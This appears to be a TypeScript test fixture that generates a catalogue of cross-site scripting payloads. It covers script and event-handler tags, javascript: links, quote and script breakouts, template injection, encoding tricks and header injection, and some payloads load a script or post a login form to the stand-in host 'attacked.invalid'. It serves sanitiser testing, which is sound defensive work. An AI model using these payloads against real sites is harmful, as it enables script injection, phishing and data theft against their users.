/** The name of the function that a payload calls, and of the attribute that each element of a payload carries. */
export const CALLED = 'attacked';
export const MADE = 'data-attacked';
/** Where a payload would send a browser: nobody answers there. */
export const ELSEWHERE = 'attacked.invalid';

export interface Payload {
  readonly name: string;
  readonly text: string;
}

type Shape = readonly [name: string, text: (call: string) => string];

const img = (call: string) => `<img ${MADE} src=x onerror=${call}>`;

const ELEMENTS: readonly Shape[] = [
  ['element', () => `<i ${MADE}>`],
  ['script', (call) => `<script ${MADE}>${call}</script>`],
  ['script, odd letters', (call) => `<ScRiPt/x ${MADE}>${call}</sCrIpT >`],
  ['script from elsewhere', () => `<script ${MADE} src=//${ELSEWHERE}/x></script>`],
  ['img', img],
  ['svg onload', (call) => `<svg ${MADE} onload=${call}>`],
  ['svg script', (call) => `<svg ${MADE}><script>${call}</script></svg>`],
  ['svg animate', (call) => `<svg ${MADE}><a><animate attributeName=href values=javascript:${call} /><text y=9>x`],
  ['math', (call) => `<math ${MADE}><mtext></form><form><mglyph><style></math>${img(call)}`],
  ['frame', (call) => `<iframe ${MADE} srcdoc="<script>parent.${call}</script>"></iframe>`],
  ['frame by address', (call) => `<iframe ${MADE} src=javascript:parent.${call}></iframe>`],
  ['object', (call) => `<object ${MADE} data="data:text/html,<script>${call}</script>"></object>`],
  ['details', (call) => `<details ${MADE} open ontoggle=${call}>`],
  ['autofocus', (call) => `<input ${MADE} autofocus onfocus=${call}>`],
  ['video', (call) => `<video ${MADE}><source onerror=${call}></video>`],
  ['base', () => `<base ${MADE} href=//${ELSEWHERE}/>`],
  ['refresh', () => `<meta ${MADE} http-equiv=refresh content="0;url=//${ELSEWHERE}/">`],
  ['style', () => `<style ${MADE}>body{background:url(//${ELSEWHERE}/x)}</style>`],
  ['sheet', () => `<link ${MADE} rel=stylesheet href=//${ELSEWHERE}/x>`],
  ['form', () => `<form ${MADE} action=//${ELSEWHERE}/><button>Log in</button></form>`],
  ['template', (call) => `<template ${MADE}>${img(call)}</template>`],
];

const BREAKOUTS: readonly Shape[] = [
  ['out of double quotes', (call) => `">${img(call)}`],
  ['out of single quotes', (call) => `'>${img(call)}`],
  ['out of backticks', (call) => `\`>${img(call)}`],
  ['an attribute more', (call) => `" ${MADE} autofocus onfocus="${call}" x="`],
  ['an attribute more, single', (call) => `' ${MADE} autofocus onfocus='${call}' x='`],
  ['out of a script', (call) => `</script>${img(call)}`],
  ['out of a title', (call) => `</title></textarea></style></noscript>${img(call)}`],
  ['out of a comment', (call) => `-->]]>${img(call)}`],
  ['out of a string', (call) => `';${call};//`],
  ['out of a double string', (call) => `";${call};//\\";${call}//`],
  ['out of a line', (call) => `x\u2028;${call}\u2029`],
];

const LINKS: readonly Shape[] = [
  ['link', (call) => `javascript:${call}`],
  ['link, odd letters', (call) => `JaVaScRiPt:${call}`],
  ['link with a tab', (call) => `java\tscript:${call}`],
  ['link after a control', (call) => `\u0001javascript:${call}`],
  ['link after a space', (call) => ` javascript:${call}`],
  ['link with a reference', (call) => `javascript&colon;${call}`],
  ['link with slashes', (call) => `javascript://%0a${call}`],
  ['link to data', (call) => `data:text/html,<script ${MADE}>${call}</script>`],
  ['link elsewhere', () => `//${ELSEWHERE}/x`],
  ['link elsewhere, turned', () => `/\\${ELSEWHERE}/x`],
  ['link elsewhere, with a tab', () => `/\t/${ELSEWHERE}/x`],
  ['link elsewhere, whole', () => `https://${ELSEWHERE}/x`],
  ['link in an element', (call) => `<a ${MADE} href="javascript:${call}">x</a>`],
];

const LANGUAGES: readonly Shape[] = [
  ['markdown', (call) => `[x](javascript:${call})`],
  ['markdown picture', (call) => `![x](x"onerror="${call})`],
  ['markdown reference', (call) => `[x]: javascript:${call}`],
  ['braces', (call) => `{{constructor.constructor('${call.replaceAll("'", '"')}')()}}`],
  ['literal', (call) => `\${${call}}`],
  ['server page', (call) => `<%= ${call} %>`],
  ['placeholder', (call) => `{q1}${img(call)}{panelist_first_name}`],
  ['css', () => `x;background:url(//${ELSEWHERE}/x)`],
  ['css, out of a rule', () => `}*{background:url(//${ELSEWHERE}/x)}`],
];

const ALPHABETS: readonly Shape[] = [
  ['wide letters', (call) => `＜img ${MADE} src=x onerror=${call}＞`],
  ['references', (call) => `&lt;img ${MADE} src=x onerror=${call}&gt;`],
  ['references twice', (call) => `&amp;lt;img ${MADE} src=x onerror=${call}&amp;gt;`],
  ['numbers', (call) => `&#60;img ${MADE} src=x onerror=${call}&#62;`],
  ['in percent', (call) => `%3Cimg ${MADE} src=x onerror=${call}%3E`],
  ['in JavaScript', (call) => `\\u003cimg ${MADE} src=x onerror=${call}\\u003e`],
  ['utf-7', (call) => `+ADw-img ${MADE} src+AD0-x onerror+AD0-${call}+AD4-`],
  ['right to left', (call) => `\u202e${img(call)}\u202c`],
  ['invisible', (call) => `<\u200bscript>${call}</script><img\u2060 ${MADE}>\ufeff`],
  ['half a character', (call) => `\ud800${img(call)}`],
  ['a header more', (call) => `x\r\nset-cookie: ${CALLED}=1\r\n\r\n${img(call)}`],
];

/** What runs, makes an element, or leads away wherever it's put into a page without care. */
export const PAYLOADS: readonly Payload[] = [...ELEMENTS, ...BREAKOUTS, ...LINKS, ...LANGUAGES, ...ALPHABETS].map(
  ([name, text], index) => ({ name, text: text(`${CALLED}(${index})`) }),
);

/** A payload's number is what it calls the function with. */
export const payloadNamed = (index: unknown): string => PAYLOADS[Number(index)]?.name ?? String(index);
